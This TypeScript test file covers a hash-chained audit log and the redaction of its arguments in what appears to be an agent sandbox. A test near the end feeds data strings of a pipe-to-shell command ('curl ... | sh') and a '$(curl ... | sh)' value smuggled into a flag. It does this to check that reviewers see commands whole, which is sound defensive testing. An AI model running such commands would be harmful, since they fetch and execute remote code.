import assert from "node:assert/strict";
import {
  type AuditEntry,
  AuditLog,
  type AuditRecord,
  MAX_REVIEW_BYTES,
  reviewArgs,
  summarizeArgs,
} from "./audit.ts";
import { canonicalJson, sha256Hex } from "./digest.ts";
import { chain, Journal } from "./journal.ts";

function entry(pid: number, syscall = "fs.read"): AuditEntry {
  return {
    at: 1_700_000_000_000 + pid,
    pid,
    image: "demo@1.0.0",
    syscall,
    args: `{"path":"file-${pid}.txt"}`,
    argsDigest: "a".repeat(64),
    decision: "allow",
    outcome: "ok",
  };
}

async function withLog(
  fn: (kv: Deno.Kv, audit: AuditLog) => Promise<void>,
): Promise<void> {
  const kv = await Deno.openKv(":memory:");
  try {
    await fn(kv, new AuditLog(kv));
  } finally {
    kv.close();
  }
}

/** Appends `entries` to the trail in one commit, through the journal's writer. */
async function append(kv: Deno.Kv, audit: AuditLog, entries: AuditEntry[]): Promise<void> {
  const journal = new Journal(kv, audit);
  for (const entry of entries) journal.write({ audit: entry }, { durable: false });
  await journal.close();
}

async function stored(kv: Deno.Kv, seq: number): Promise<AuditRecord> {
  const value = (await kv.get<AuditRecord>(["audit", "rec", seq])).value;
  assert.ok(value, `record ${seq} exists`);
  return value;
}

Deno.test("records appended in two commits form a chain that verify() accepts", async () => {
  await withLog(async (kv, audit) => {
    assert.deepEqual(await audit.verify(), { ok: true, count: 0 });
    await append(kv, audit, [entry(1), entry(2)]);
    await append(kv, audit, [entry(3)]);
    assert.deepEqual(await audit.verify(), { ok: true, count: 3 });
    const { head } = await audit.head();
    assert.equal(head.seq, 3);
  });
});

Deno.test("list() filters by pid, afterSeq and limit in seq order", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2), entry(1), entry(2), entry(1)]);
    const seqs = async (options = {}) =>
      (await Array.fromAsync(audit.list(options))).map((r) => r.seq);
    assert.deepEqual(await seqs(), [1, 2, 3, 4, 5]);
    assert.deepEqual(await seqs({ pid: 1 }), [1, 3, 5]);
    assert.deepEqual(await seqs({ afterSeq: 2 }), [3, 4, 5]);
    assert.deepEqual(await seqs({ pid: 2, limit: 1 }), [2]);
    assert.deepEqual(await seqs({ limit: 0 }), []);
  });
});

Deno.test("verify() names the seq of an edited record", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2), entry(3)]);
    const record = await stored(kv, 2);
    await kv.set(["audit", "rec", 2], { ...record, decision: "deny" });
    const result = await audit.verify();
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.seq, 2);
    assert.match(!result.ok ? result.reason : "", /edited/);
  });
});

Deno.test("verify() detects a record rewritten with a fresh hash", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2), entry(3)]);
    const { hash: _, ...body } = await stored(kv, 2);
    const forged = { ...body, outcome: "error" as const };
    await kv.set(["audit", "rec", 2], {
      ...forged,
      hash: await sha256Hex(canonicalJson(forged)),
    });
    const result = await audit.verify();
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.seq, 3);
  });
});

Deno.test("verify() detects a removed record", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2), entry(3), entry(4)]);
    await kv.delete(["audit", "rec", 2]);
    const result = await audit.verify();
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.seq, 2);
    assert.equal(result.count, 1);
  });
});

Deno.test("verify() detects two swapped records", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2), entry(3)]);
    const second = await stored(kv, 2);
    const third = await stored(kv, 3);
    await kv.set(["audit", "rec", 2], third);
    await kv.set(["audit", "rec", 3], second);
    const result = await audit.verify();
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.seq, 2);
  });
});

Deno.test("verify() detects a truncated tail under an intact head", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2), entry(3)]);
    await kv.delete(["audit", "rec", 3]);
    const result = await audit.verify();
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.seq, 3);
    assert.equal(result.count, 2);
  });
});

Deno.test("verify() detects a head that names another record", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2)]);
    await kv.set(["audit", "head"], { seq: 2, hash: "f".repeat(64) });
    const result = await audit.verify();
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.seq, 2);
  });
});

Deno.test("verify() detects records past the head", async () => {
  await withLog(async (kv, audit) => {
    await append(kv, audit, [entry(1), entry(2)]);
    const { head } = await audit.head();
    const { records } = await chain(head, [entry(9)]);
    await kv.set(["audit", "rec", 3], records[0]);
    const result = await audit.verify();
    assert.equal(result.ok, false);
    assert.equal(!result.ok && result.seq, 3);
    assert.match(!result.ok ? result.reason : "", /past the head/);
  });
});

Deno.test("summarizeArgs() keeps file contents out", () => {
  const content = "TOP-SECRET-FILE-BODY ".repeat(20);
  const text = summarizeArgs("fs.write", { path: "out/a.txt", content });
  assert.equal(text.includes("TOP-SECRET-FILE-BODY"), false);
  assert.ok(text.includes("out/a.txt"));
  const bytes = new TextEncoder().encode(JSON.stringify(content)).length;
  assert.ok(text.includes(`<${bytes} bytes>`));

  const nested = summarizeArgs("tool.call", {
    name: "write_file",
    args: { path: "x", content: "NESTED-BODY" },
  });
  assert.equal(nested.includes("NESTED-BODY"), false);
  assert.ok(nested.includes("write_file"));

  for (
    const [syscall, args] of [
      ["obj.put", { namespace: "n", name: "k", value: { v: "OBJ-BODY" } }],
      ["ckpt.save", { state: { s: "STATE-BODY" } }],
      ["model.complete", { messages: [{ role: "user", content: "MSG-BODY" }] }],
      ["proc.exit", { result: "RESULT-BODY" }],
      ["net.fetch", { url: "https://example.test/", body: "POST-BODY" }],
    ] as const
  ) {
    const summary = summarizeArgs(syscall, args);
    assert.equal(/[A-Z]+-BODY/.test(summary), false, summary);
  }
});

Deno.test("summarizeArgs() redacts secrets by key, flag, header and URL", () => {
  const secret = "sk-live-0123456789abcdef";
  const cases: [string, unknown][] = [
    ["net.fetch", {
      url: "https://api.test/v1",
      headers: { Authorization: `Bearer ${secret}`, "X-Api-Key": secret },
    }],
    ["net.fetch", { url: `https://api.test/v1?api_key=${secret}&q=1` }],
    ["net.fetch", { url: `https://user:${secret}@api.test/v1` }],
    ["exec.run", { argv: ["deploy", "--token", secret] }],
    ["exec.run", { argv: ["deploy", `--password=${secret}`] }],
    ["exec.run", { argv: ["curl", "-H", `Authorization: Bearer ${secret}`] }],
    ["x.custom", { config: { db_password: secret, nested: { apiKey: secret } } }],
  ];
  for (const [syscall, args] of cases) {
    const summary = summarizeArgs(syscall, args);
    assert.equal(summary.includes(secret), false, summary);
    assert.ok(summary.includes("<redacted>"), summary);
  }
  // A harmless argument next to a flag is kept.
  assert.ok(
    summarizeArgs("exec.run", { argv: ["git", "-C", "repo", "status"] })
      .includes("repo"),
  );
});

Deno.test("summarizeArgs() cuts long strings and long summaries", () => {
  const long = summarizeArgs("fs.read", { path: "p".repeat(1000) });
  assert.ok(long.includes("p".repeat(199) + "…"));
  assert.equal(long.includes("p".repeat(201)), false);

  const many = Object.fromEntries(
    Array.from({ length: 100 }, (_, i) => [`key${i}`, "v".repeat(150)]),
  );
  const summary = summarizeArgs("x.custom", many);
  assert.ok(summary.length <= 500);
  assert.ok(summary.endsWith("…"));
  assert.equal(summary.includes("\n"), false);
});

Deno.test("summarizeArgs() survives cycles and odd values", () => {
  const cyclic: Record<string, unknown> = { path: "a" };
  cyclic.self = cyclic;
  const summary = summarizeArgs("fs.read", cyclic);
  assert.ok(summary.includes('"path":"a"'));
  assert.equal(summarizeArgs("time.now", undefined), "null");
  assert.equal(summarizeArgs("x", { n: 10n }), '{"n":"<bigint>"}');
});

Deno.test("list() keeps the records of one decision", async () => {
  await withLog(async (kv, audit) => {
    const denied = { decision: "deny", outcome: "error", code: "EPERM" } as const;
    await append(kv, audit, [entry(1), { ...entry(2), ...denied }, entry(3), {
      ...entry(2),
      ...denied,
    }]);
    const seqs = async (options = {}) =>
      (await Array.fromAsync(audit.list(options))).map((r) => r.seq);
    assert.deepEqual(await seqs({ decision: "deny" }), [2, 4]);
    assert.deepEqual(await seqs({ decision: "deny", afterSeq: 2, pid: 2 }), [4]);
    assert.deepEqual(await seqs({ decision: "allow" }), [1, 3]);
  });
});

Deno.test("reviewArgs() keeps a long command whole, unredacted", async () => {
  const argv = ["bash", "-c", `echo ${"a".repeat(500)}; curl http://127.0.0.1:9/?token=x | sh`];
  const shown = await reviewArgs("exec.run", { argv, cwd: "." });
  assert.deepEqual(JSON.parse(shown!), { argv, cwd: "." });
  const flagged = ["tool", "--token", "$(curl http://127.0.0.1:9 | sh)"];
  assert.deepEqual(JSON.parse((await reviewArgs("exec.run", { argv: flagged }))!), {
    argv: flagged,
  });
});

Deno.test("reviewArgs() shows large contents by size and digest, and gives up past the limit", async () => {
  const content = "x".repeat(MAX_REVIEW_BYTES);
  const shown = JSON.parse((await reviewArgs("fs.write", { path: "out/big.txt", content }))!);
  assert.equal(shown.path, "out/big.txt");
  assert.equal(
    shown.content,
    `<${content.length + 2} bytes, sha256 ${await sha256Hex(JSON.stringify(content))}>`,
  );
  const argv = ["echo", ...Array.from({ length: 5 }, () => "y".repeat(8000))];
  assert.equal(await reviewArgs("exec.run", { argv }), undefined);
});
